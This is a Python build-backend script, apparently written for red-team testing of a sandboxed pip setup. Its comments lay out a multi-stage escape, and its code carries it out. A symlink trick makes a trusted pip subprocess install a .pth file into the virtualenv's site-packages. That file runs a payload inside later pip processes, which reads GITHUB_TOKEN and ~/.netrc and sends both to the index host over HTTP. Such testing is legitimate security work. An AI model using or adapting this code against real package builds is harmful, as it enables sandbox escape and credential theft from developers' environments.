# Attack B2 (same run): make pip's own build-dependency installer (the
# trusted __pip-runner__.py subprocess) write into the target environment.
#  1. get_requires_for_build_wheel: our build env's "normal" prefix does not
#     exist yet; create it in /tmp (ours to write) with its lib directory a
#     SYMLINK to the venv's site-packages, and return a requirement on a wheel
#     we just wrote: "rt1-stage2 @ file:///tmp/rt1b2/...whl".
#  2. pip installs it with a trusted subprocess (no Landlock, the kernel's
#     environment guard only watches untrusted tasks): through the symlink,
#     rt1-stage2 (an __editable__.*.pth, allowed by name, and its RECORD)
#     lands in the venv's site-packages in the middle of the run.
#  3. Our metadata requires rt1-b2-trigger, an sdist with a build
#     dependency: pip starts another trusted __pip-runner__.py, whose
#     interpreter runs the .pth at start-up: our code, as pip.
#  4. The payload (only in a trusted pip process) uses the proxy (served:
#     reversed GITHUB_TOKEN) and reads ~/.netrc (a file only pip may open).
#  Everything written is declared by a RECORD; the .pth name is allowed.
import ast, os, re, sys, glob
sys.path.insert(0, os.path.dirname(__file__))
import wheelkit

NAME, VER = "rt1-b2", "1.0"
STAGE2 = "/tmp/rt1b2"

PAYLOAD = rb'''
import os, sys
def _rt1():
    a0 = os.path.basename(sys.argv[0] or "")
    with open("/tmp/rt1b2/starts.log", "a") as f:
        f.write(repr((os.getpid(), sys.argv[:3])) + "\n")
    if a0 not in ("__pip-runner__.py", "pip", "pip3"):
        return
    idx = None
    for i, x in enumerate(sys.argv):
        if x in ("-i", "--index-url") and i + 1 < len(sys.argv):
            idx = sys.argv[i + 1]
    if not idx:
        idx = os.environ.get("PIP_INDEX_URL", "")
    base = idx.rsplit("/simple", 1)[0]
    gh = os.environ.get("GITHUB_TOKEN", "")[::-1]
    try:
        netrc = open(os.path.expanduser("~/.netrc")).read().split()[-1][::-1]
    except OSError as e:
        netrc = "err-" + type(e).__name__
    import urllib.request
    try:
        urllib.request.urlopen(f"{base}/rt1-b2-trusted/{gh}/{netrc}/{a0}", timeout=5).read()
    except Exception as e:
        with open("/tmp/rt1b2/starts.log", "a") as f:
            f.write("urlopen: %r\n" % (e,))
_rt1()
'''

def _normal_lib_dirs():
    out = []
    for p in os.environ.get("PYTHONPATH", "").split(os.pathsep):
        sc = os.path.join(p, "sitecustomize.py")
        if p.startswith("/tmp/pip-build-env-") and os.path.exists(sc):
            lists = re.findall(r"for path in (\[.*?\]):", open(sc).read())
            for lst in lists:
                out += [d for d in ast.literal_eval(lst) if "/normal/" in d]
    return sorted(set(out))

def get_requires_for_build_wheel(config_settings=None):
    venv_site = f"{sys.prefix}/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
    os.makedirs(STAGE2, exist_ok=True)
    fn = wheelkit.write_wheel(STAGE2, "rt1-stage2", "1.0", {
        "__editable__.rt1stage2.pth": b"import rt1_stage2_payload\n",
        "rt1_stage2_payload.py": PAYLOAD})
    with open(f"{STAGE2}/plan.log", "a") as f:
        for d in _normal_lib_dirs():
            if not os.path.lexists(d):
                os.makedirs(os.path.dirname(d), exist_ok=True)
                os.symlink(venv_site, d)
            f.write(f"{d} -> {os.path.realpath(d)}\n")
    return [f"rt1-stage2 @ file://{STAGE2}/{fn}"]

def prepare_metadata_for_build_wheel(md_dir, config_settings=None):
    return wheelkit.write_metadata(md_dir, NAME, VER, ["rt1-b2-trigger"])

def build_wheel(wheel_dir, config_settings=None, metadata_directory=None):
    return wheelkit.write_wheel(wheel_dir, NAME, VER, {"rt1_b2.py": b""}, ["rt1-b2-trigger"])
